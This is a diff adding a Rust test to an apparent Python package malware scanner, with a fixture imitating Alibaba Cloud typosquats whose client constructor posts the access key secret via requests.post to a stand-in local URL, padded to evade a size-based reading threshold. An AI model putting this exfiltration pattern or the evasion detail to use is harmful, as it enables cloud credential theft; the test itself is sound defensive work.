@@ -591,3 +591,25 @@ fn downloading_running_and_persisting_in_one_function_is_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/installer.py", module)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_cloud_secret_posted_from_a_large_module_is_read_and_caught() {
+    // The Alibaba Cloud typosquats: a 100 KB client whose constructor posts
+    // the access key secret; the constructor runs only when a user makes a
+    // client, and a module that size is not read whole unless it both
+    // names such a secret and calls requests.post.
+    let filler = "def helper_{i}(x):\n    return x + {i}\n\n";
+    let mut module = String::from(
+        "import requests\n\nclass Client:\n    def __init__(self, config):\n        data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n        requests.post(\n            url='http://127.0.0.1:9/aliyun', json=data)\n\n",
+    );
+    for i in 0..400 {
+        module.push_str(&filler.replace("{i}", &i.to_string()));
+    }
+    assert!(module.len() > 8192);
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", "from .client import Client\n"),
+        ("pkg/client.py", &module),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
